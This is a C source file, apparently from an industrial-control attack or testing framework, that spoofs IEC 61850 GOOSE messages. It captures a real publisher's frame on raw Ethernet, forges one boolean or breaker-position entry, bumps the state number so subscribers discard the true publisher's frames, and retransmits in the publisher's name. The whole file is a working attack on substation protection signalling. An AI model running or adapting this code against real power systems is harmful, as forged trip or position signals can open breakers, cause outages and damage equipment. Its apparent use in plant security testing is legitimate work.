/*
 * GOOSE in another's name: IEC 61850-8-1 asks nobody for a proof. Whoever counts higher is
 * believed, and the true publisher's frames are old from then on. The MAC address is the attacker's
 * own: no subscriber looks at it, and with the publisher's the switch would send him what is not
 * his.
 */
#include <string.h>

#include "pcaps/plant/goose.h"
#include "pcaps/plant/play.h"
#include "pcaps/plant/raw.h"

#define ETHERTYPE_GOOSE 0x88b8
#define LISTEN_NS	(5 * SECOND)

struct spoof {
	struct raw raw;
	const struct goose_block *block;
	struct publisher p;
	struct goose_seen seen;
	uint8_t frame[RAW_FRAME];
};

/* A frame of the block as its publisher sends it; false with a complaint. */
static bool listen_for(struct spoof *s)
{
	uint64_t end = clock_now() + LISTEN_NS;

	while (!stop_asked() && clock_now() < end) {
		size_t n = raw_receive(&s->raw, s->frame, 50);

		if (n > 0 && goose_read(s->frame, n, &s->seen) &&
		    strcmp(s->seen.reference, s->block->reference) == 0)
			return true;
	}
	complain("nobody publishes %s", s->block->reference);
	return false;
}

/* The data as they were heard, but for one entry, which is a boolean or a position. */
static bool forge(struct spoof *s, unsigned entry, double value)
{
	struct bytes data = { .n = 0 };
	size_t at, len;

	if (!goose_content(s->frame, &s->seen, entry, &at, &len) || entry > s->block->nentries)
		return false;
	switch (s->block->entries[entry - 1].form) {
	case GOOSE_BOOLEAN:
		s->frame[at] = value >= 0.5 ? 0xff : 0;
		break;
	case GOOSE_POSITION:
		s->frame[at + 1] = value >= 0.5 ? 0x80 : 0x40;
		break;
	default:
		return false;
	}
	bytes_put(&data, s->frame + s->seen.data, s->seen.data_len);
	publisher_change(&s->p, clock_now(), &data, (unsigned)s->seen.entries);
	s->p.changed = goose_wall(clock_now()) - STORY_BEGIN;
	return true;
}

static unsigned publish(struct spoof *s, uint64_t end)
{
	unsigned n = 0;

	while (s->p.next < end && clock_sleep_until(s->p.next)) {
		struct bytes f = publisher_frame(&s->p);

		n += raw_send(&s->raw, f.b, f.n);
		s->p.sqnum++;
		s->p.next += s->p.interval;
		s->p.interval = 2 * s->p.interval < SECOND ? 2 * s->p.interval : SECOND;
	}
	return n;
}

int action_goose(struct deed *d)
{
	static struct spoof s;
	const char *name = scenario_word(d->step, "block");
	int block = name ? goose_find(name) : -1;
	unsigned entry = (unsigned)deed_number(d, "entry", 1), n = 0;

	if (block < 0) {
		complain("%s:%d: the plant has no GOOSE control block '%s'", d->scenario->file,
			 d->step->place.line, name ? name : "");
		return FAILED;
	}
	s.block = &goose_blocks[block];
	if (!raw_open(&s.raw, ETHERTYPE_GOOSE))
		return FAILED;
	if (listen_for(&s)) {
		goose_publisher(&s.p, s.block);
		memcpy(s.p.mac, s.raw.mac, sizeof(s.p.mac));
		s.p.stnum = s.seen.stnum + (uint64_t)deed_number(d, "ahead", 1) - 1;
		s.p.confrev = s.seen.confrev;
		s.p.ttl = (uint32_t)(deed_time(d, "lives", s.seen.lives_ms * MS) / MS);
		say(&d->visit, "%s is in state %u; forges state %u", s.seen.reference,
		    (unsigned)s.seen.stnum, (unsigned)s.p.stnum + 1);
		if (forge(&s, entry, deed_number(d, "value", 1)))
			n = publish(&s, clock_now() + deed_time(d, "for", 0));
		say(&d->visit, "%u frames sent in its name", n);
	}
	raw_close(&s.raw);
	return n > 0 ? DONE : FAILED;
}
